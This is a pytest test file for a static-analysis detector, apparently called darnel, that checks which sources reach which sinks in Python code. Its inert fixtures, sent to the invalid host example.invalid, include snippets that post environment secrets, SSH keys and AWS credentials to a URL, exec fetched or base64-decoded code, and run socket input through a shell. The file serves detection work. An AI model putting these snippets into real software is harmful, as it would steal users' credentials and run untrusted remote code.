"""Which sources reach which sinks in a Python file. Fixtures are inert: hosts that do not exist, nothing is run."""

from time import process_time

import pytest

from darnel.features.analyse import analyse_file
from darnel.features.content import sniff
from darnel.features.flow import COLUMNS, PAIRS, Flow
from darnel.features.languages import python_flow
from darnel.features.languages.registry import language_by_name
from darnel.features.limits import DEFAULT_LIMITS
from darnel.features.raw import RawFile
from darnel.features.vectorise import FILE_COLUMNS, vectorise_file

HEAD = "import os, base64, json, socket, subprocess, requests, platform\nU = 'https://example.invalid/'\n"


def analysed(source: str) -> RawFile:
    data = source.encode()
    return analyse_file("a.py", data, sniff("a.py", data), language_by_name("python"), DEFAULT_LIMITS)


def flows(source: str) -> set[str]:
    return {f"{flow.source}.{flow.sink}" for flow in analysed(HEAD + source).get("flows", ())}


@pytest.mark.parametrize(
    ("source", "wanted"),
    [
        ("requests.post(U, data=os.environ['AWS_SECRET_KEY'])", "secret.send"),
        ("t = os.environ.get('API_TOKEN')\nrequests.post(U, json={'t': [t]})", "secret.send"),
        ("x = dict(os.environ)\ny = json.dumps(x)\nrequests.post(U, data=base64.b64encode(y.encode()))", "secret.send"),
        ("with open('/home/a/.aws/credentials') as f:\n    d = f.read()\nrequests.post(U, d)", "secret.send"),
        ("p = os.path.expanduser('~/.ssh/id_rsa')\nf = open(p)\nrequests.post(U, files={'f': f})", "secret.send"),
        ("d = {}\nfor p in ['~/.ssh/id_rsa']:\n    d[p] = open(p).read()\nrequests.post(U, json=d)", "secret.send"),
        ("d = {}\nd.update(os.environ)\nrequests.get(U + str(d))", "secret.send"),
        ("d = {}\nd['h'] = socket.gethostname()\nrequests.get(f'{U}?{d}')", "host.send"),
        ("h = platform.node()\nrequests.get(U, params={'h': h})", "host.send"),
        ("def read():\n    return platform.node()\nrequests.post(U, data=read())", "host.send"),
        ("def send(a, b=None):\n    requests.post(U, data=b)\nsend(1, platform.node())", "host.send"),
        ("def send(a, b=None):\n    requests.post(U, data=b)\nsend(1, b=platform.node())", "host.send"),
        (
            "class A:\n  def a(self):\n    self.x = platform.node()\n  def b(self):\n    self.send(self.x)\n"
            "  def send(self, d):\n    requests.post(U, data=d)\n",
            "host.send",
        ),
        ("def f():\n    global X\n    X = platform.node()\ndef g():\n    requests.post(U, data=X)\n", "host.send"),
        ("s = socket.socket()\ns.connect((U, 1))\ns.send(platform.node().encode())", "host.send"),
        ("d = open('notes.txt').read()\nrequests.post(U, data=d)", "file.send"),
        ("exec(requests.get(U).text)", "fetched.execute"),
        ("r = requests.get(U)\nc = r.json()['c']\nsubprocess.run(['sh', '-c', c])", "fetched.execute"),
        ("s = socket.socket()\nd = s.recv(9).decode()\nsubprocess.Popen(d, shell=True)", "fetched.execute"),
        ("from flask import request\nsubprocess.run(request.args.get('x'), shell=True)", "fetched.execute"),
        ("r = requests.get(U)\nwith open('x', 'wb') as f:\n    f.write(r.content)\n", "fetched.write"),
        ("open('x', 'wb').write(requests.get(U).content)", "fetched.write"),
        ("r = requests.get(U)\nf = open('x', 'w')\njson.dump(r.json(), f)", "fetched.write"),
        ("c = base64.b64decode(D)\nif c:\n    exec(c)", "decoded.execute"),
        ("exec(''.join(chr(i) for i in base64.b64decode(D)))", "decoded.execute"),
        ("u = base64.b64decode(D).decode()\nrequests.post(u)", "decoded.send"),
        ("[exec(x) for x in [base64.b64decode(y) for y in D]]", "decoded.execute"),
        ("if (c := base64.b64decode(D)):\n    exec(c)", "decoded.execute"),
        ("c = b''\nc += base64.b64decode(D)\nexec(c)", "decoded.execute"),
    ],
)
def test_what_reaches_what(source: str, wanted: str) -> None:
    assert wanted in flows(source)


@pytest.mark.parametrize(
    "source",
    [
        "t = os.environ['API_TOKEN']\nrequests.post(U, data=b'x')",
        "t = os.environ['API_TOKEN']\nif t == 'x':\n    requests.post(U, data=b'x')",
        "t = os.environ['API_TOKEN']\nrequests.post(U, data=str(len(t)))",
        "s = socket.socket()\ns.bind(a)\nsubprocess.Popen(s)",
        "def f():\n    t = platform.node()\ndef g(t):\n    requests.post(U, data=t)\ng(1)",
        "subprocess.run(['ls'], env=dict(os.environ))",
        "n = platform.node()\nwith open(n + '.txt', 'w') as f:\n    f.write('x')",
        "data = platform.node()\nrequests.post(U, data='x')",
        "x = base64.b64decode(D)\nprint(x)\nexec('1 + 1')",
        "x = open('a').read()\nopen('b', 'w').write(x)",
        "x = 'platform.node()'\nrequests.post(U, data=x)",
        "exec(\"import platform; x = platform.node()\")\nrequests.post(U, data='x')",
    ],
)
def test_what_reaches_nothing(source: str) -> None:
    assert flows(source) == set()


def test_places_and_columns() -> None:
    raw = analysed("import os, requests\nk = os.environ['AWS_SECRET_KEY']\n\ndef f():\n    requests.post(U, data=k)\n")
    (found,) = raw["flows"]
    assert (found.source_line, found.sink_line, found.top) == (2, 5, False)
    orders = {o.behaviour: o.order for o in raw["observations"]}
    assert (found.source_order, found.sink_order) == (orders["env.secret"], orders["net.send"])
    values = vectorise_file(raw)
    assert {name: value for name, value in values.items() if name.startswith("flow.")} == {"flow.secret.send": 1.0}
    assert {column.name for column in COLUMNS} <= set(FILE_COLUMNS.names)
    assert len(COLUMNS) == 2 * len(PAIRS)


def test_a_file_without_both_is_not_traced(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[int] = []

    def counted(*_: object) -> list[Flow]:
        calls.append(1)
        raise RecursionError

    monkeypatch.setattr(python_flow, "trace", counted)
    assert "flows" not in analysed(HEAD + "requests.post(U)")
    assert "flows" not in analysed(HEAD + "x = os.environ['API_TOKEN']")
    assert not calls
    # A bug costs the flows, not the file.
    raw = analysed(HEAD + "x = os.environ['API_TOKEN']\nrequests.post(U)")
    assert calls
    assert "flows" not in raw
    assert {"env.secret", "net.send"} <= {o.behaviour for o in raw["observations"]}


@pytest.mark.parametrize(
    "body",
    [
        "a = platform.node()\n" + "".join(f"a{i + 1} = a{i}\n" for i in range(20_000)) + "requests.post(U, data=a)",
        "a = platform.node()\n" + "requests.post(U, data=a)\n" * 5_000,
        "a = platform.node()\na = a\n" * 5_000 + "requests.post(U, data=a)",
        "def f(x):\n    return f(x)\n" * 2_000 + "f(platform.node())\nrequests.post(U)",
        "requests.post(U, data=" + "(" * 1_500 + "platform.node()" + ")" * 1_500 + ")",
        "requests.post(U, data=" + "[" * 300 + "platform.node()" + "]" * 300 + ")",
        "a.b.c = platform.node()\n" * 3_000 + "requests.post(U, data=a.b.c)",
        "x = [" + "platform.node(), " * 20_000 + "]\nrequests.post(U, data=x)",
        "x = requests.post(U, data=platform.node() + " + "a + " * 3_000 + "b)",
    ],
)
def test_hostile_sources_are_bounded(body: str) -> None:
    started = process_time()
    raw = analysed(HEAD + body)
    assert process_time() - started < 6
    assert len(raw.get("flows", ())) <= python_flow.MAX_FLOWS
